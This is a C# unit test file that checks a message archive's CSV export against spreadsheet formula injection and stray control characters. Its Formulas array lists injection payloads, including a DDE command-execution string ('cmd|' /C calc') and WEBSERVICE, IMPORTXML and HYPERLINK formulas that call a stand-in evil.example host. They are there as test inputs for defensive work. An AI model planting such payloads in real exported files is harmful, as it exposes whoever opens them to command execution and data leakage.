using System.Text;
using System.Text.Json;
using KapsoArchive.Core.Archive;
using KapsoArchive.Core.Lake;
using KapsoArchive.Core.Storage.Folders;
using KapsoArchive.Tests.Infrastructure;
using KapsoArchive.Tests.Runs;

namespace KapsoArchive.Tests.Hostile;

/// <summary>An export as CSV, in every text column: no cell is a formula, no character acts where the file is shown, and it is still RFC 4180.</summary>
public sealed class SheetTests : IDisposable
{
    private static readonly string[] Columns = ["content", "status", "message_type", "phone_number", "whatsapp_message_id", "processing_status", "direction"];

    private static readonly string[] Formulas =
    [
        "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example\",\"x\")", "=IMPORTXML(\"https://evil.example\",\"//a\")", "=WEBSERVICE(\"https://evil.example\")",
        "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\"=1+1\"", "=1+1\",\"=2+2", "=\u00001+1", "-2+3+cmd|' /C calc'!A0", "+", "=",
    ];

    private readonly TemporaryFolder _folder = new();

    private static CancellationToken Cancellation => TestContext.Current.CancellationToken;

    public void Dispose() => _folder.Dispose();

    [Fact]
    public async Task No_column_has_a_text_that_is_a_formula()
    {
        List<string[]> lines = await ExportAsync(Formulas);

        lines.Count.ShouldBe(Formulas.Length + 1);
        lines.ShouldAllBe(line => line.Length == lines[0].Length);
        int position = Array.IndexOf(lines[0], "position"); // A number, and negative by right.
        lines.Skip(1).SelectMany(line => line.Where((_, i) => i != position)).ShouldAllBe(cell => cell.Length == 0 || !"=+-@\t\r\n＝＋－＠".Contains(cell[0]));
        foreach (string column in Columns)
            lines.Skip(1).Select(line => line[Array.IndexOf(lines[0], column)]).Count(cell => cell.StartsWith('\'')).ShouldBe(Formulas.Length - 1, column);
    }

    [Fact]
    public async Task No_character_in_a_cell_has_an_effect()
    {
        string[] texts = [.. Acting.Characters.Select(c => $"a{c}b"), .. Acting.Characters.Select(c => $"{c}=1+1"), Acting.Text, "a\r\nb\tc", "a\uFEFFb"];
        List<string[]> lines = await ExportAsync(texts);

        char[] acting = [.. Acting.Characters.Except(['\u200e', '\u200f', '\u061c'])];
        lines.Count.ShouldBe(texts.Length + 1);
        lines.ShouldAllBe(line => line.Length == lines[0].Length);
        foreach (string cell in lines.SelectMany(line => line))
            cell.ShouldNotContain(acting);
        int content = Array.IndexOf(lines[0], "content");
        lines.Single(line => line[content].StartsWith("a\r\n", StringComparison.Ordinal))[content].ShouldBe("a\r\nb\tc", "line breaks and tabs are text");
        lines.Count(line => line[content] == "a␛b").ShouldBe(1);
        lines.Count(line => line[content] == "a␀b").ShouldBe(1);
        lines.Count(line => line[content] == "a[U+202E]b").ShouldBe(1);
    }

    /// <summary>The lines of an export of one message a text, with the text in every column.</summary>
    private async Task<List<string[]>> ExportAsync(IReadOnlyList<string> texts)
    {
        await using RawSource source = await RawSource.StartAsync();
        source.Add("c-1", texts.Select((text, i) => JsonSerializer.Serialize(Columns.ToDictionary(c => c, _ => text).Append(new("id", $"m-{i}")).Append(new("media_url", $"https://a.example/{text}")).ToDictionary())));
        await using var harness = new RunHarness(source.BaseUrl, new FolderStore(_folder.Path));
        Manifest export = await harness.ExportAsync(TimeRange.All, [PartFormat.Csv], Cancellation);
        export.Status.ShouldBe("Succeeded");
        string file = Directory.GetFiles(_folder.File($"exports/{export.RunId}/messages_csv"), "*.csv*", SearchOption.AllDirectories).ShouldHaveSingleItem();
        return Rfc4180.Read(await File.ReadAllTextAsync(file, Encoding.UTF8, Cancellation));
    }
}
